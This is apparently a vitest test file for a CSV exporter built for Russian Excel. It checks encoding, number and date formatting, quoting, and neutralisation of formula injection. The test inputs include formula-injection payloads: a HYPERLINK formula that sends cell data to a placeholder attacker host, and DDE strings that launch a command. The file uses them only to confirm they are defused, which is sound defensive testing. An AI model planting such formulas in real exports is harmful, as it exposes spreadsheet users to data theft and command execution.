import { expect, test } from "vitest";
import { csvHead, csvRow } from "./csv";
import type { Head } from "./table";

const heads: Head[] = [
  { title: "Клиент", kind: "text", width: 10 },
  { title: "Сумма, ₽", kind: "money", width: 10 },
  { title: "Дата", kind: "date", width: 10 },
];
const textOf = (cell: string) => csvRow(heads.slice(0, 1), [cell]);

test("a CSV file begins with the UTF-8 byte order mark, and its lines end with CRLF", () => {
  expect([...Buffer.from(csvHead(heads)).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  expect(csvHead(heads)).toBe("\ufeffКлиент;Сумма, ₽;Дата\r\n");
});

test("CSV amounts have a decimal comma and no spaces, and dates are written as Russian Excel reads them", () => {
  expect(csvRow(heads, ["ООО «Ветер»", 123_456_789, "2026-11-21"])).toBe(
    "ООО «Ветер»;1234567,89;21.11.2026\r\n",
  );
  expect(csvRow(heads, [null, -5, null])).toBe(";-0,05;\r\n");
  expect(csvRow(heads, ["", 0, "2026-01-02"])).toBe(";0,00;02.01.2026\r\n");
});

test("CSV cells with separators, quotation marks, line breaks or outer spaces are quoted", () => {
  expect(textOf("а;б")).toBe('"а;б"\r\n');
  expect(textOf('ООО "Ветер"')).toBe('"ООО ""Ветер"""\r\n');
  expect(textOf("раз\nдва")).toBe('"раз\nдва"\r\n');
  expect(textOf(" край ")).toBe('" край "\r\n');
  expect(textOf("Рога, копыта и Ко")).toBe('"Рога, копыта и Ко"\r\n');
  expect(textOf("0,5")).toBe('"0,5"\r\n');
  expect(textOf("раз\tдва")).toBe('"раз\tдва"\r\n');
});

test.each([
  "=1+1",
  "+1",
  "-1",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "\n=1",
  "  =1",
  "\u00a0=1",
  '"=1',
  "'=1",
  " \" ' =1",
  "\u200b=1",
  "\ufeff=1",
  "＝1",
  "＋1",
  '=HYPERLINK("http://evil.example?x="&A1;"открыть")',
  "=cmd|' /C calc'!A0",
])("a CSV cell of %j is prefixed, so that Excel runs no formula", (cell) => {
  const written = textOf(cell).slice(0, -2);
  const unquoted = written.startsWith('"') ? written.slice(1, -1).replaceAll('""', '"') : written;
  expect(unquoted).toBe(`'${cell}`);
});

test.each([
  ["Иван,=1+cmd|'/C calc'!A0", "Иван,'=1+cmd|'/C calc'!A0"],
  ["а, \u200b @SUM(A1)", "а, \u200b '@SUM(A1)"],
  ["а\t=1\n=2\r\n＝3", "а\t'=1\n'=2\r\n'＝3"],
  ["а,-1+cmd|'/C calc'!A0,+HYPERLINK(B2)", "а,'-1+cmd|'/C calc'!A0,'+HYPERLINK(B2)"],
  ['а,"=1', "а,\"'=1"],
])("in a CSV cell of %j no part is a formula for a program that separates by it", (cell, expected) => {
  expect(textOf(cell)).toBe(`"${expected.replaceAll('"', '""')}"\r\n`);
});

test.each([
  "Москва, +7 (999) 123-45-67, -1 этаж",
  "Договор:\n- оплата\n- сроки",
  "а,б=в",
  "а,,б",
  "доб.\t+7 999",
])("a CSV cell of %j is quoted and otherwise unchanged", (cell) => {
  expect(textOf(cell)).toBe(`"${cell}"\r\n`);
});

test.each(["0412345678", "012345678", "40702810900000000001", "771234567890", "00"])(
  "a CSV cell keeps the digits of %j as they are in Excel",
  (cell) => {
    expect(textOf(cell)).toBe(`"=""${cell}"""\r\n`);
  },
);

test.each(["12/11", "3-26", "05.11.2026", "1.10", "7-11/2026", "12-2026", "10:30", "1E5", "12e3"])(
  "a CSV cell keeps a document's number %j from being read as a date or another number",
  (cell) => {
    expect(textOf(cell)).toBe(`"=""${cell}"""\r\n`);
  },
);

test.each(["0412345678=1", "=0412345678", "40702810900000000001\n=1", '0412345678"&A1&"'])(
  "a CSV cell of %j is not written as a formula, though it has digits",
  (cell) => {
    expect(textOf(cell)).not.toMatch(/^"?=/);
  },
);

test.each([
  "0",
  "12345678901",
  "ООО «=»",
  "а=б",
  "Д-2026/001",
  "7800000027",
  "e-mail@example.ru",
  "100 % + 1",
])("a CSV cell of %j is written unchanged", (cell) => {
  expect(textOf(cell)).toBe(`${cell}\r\n`);
});
